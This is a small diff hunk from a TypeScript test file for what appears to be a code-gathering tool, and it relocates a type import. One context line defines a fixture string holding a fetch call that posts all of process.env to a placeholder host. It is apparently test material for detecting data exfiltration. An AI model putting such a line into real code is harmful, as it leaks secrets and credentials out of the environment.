@@ -4,8 +4,8 @@ import { lay, measured } from '../../test/support/gathered.ts';
 import { gatherCode } from './code.ts';
 import type { Collecting } from './collect.ts';
 import { createDeadline } from './deadline.ts';
+import type { Unmeasured } from './part.ts';
 import { settingsOf } from './settings.ts';
-import type { Unmeasured } from './snapshot.ts';
 
 type Tree = Parameters<typeof settingsOf>[0];
 const SENDS = 'fetch("https://host.invalid/", { body: JSON.stringify(process.env) });\n';
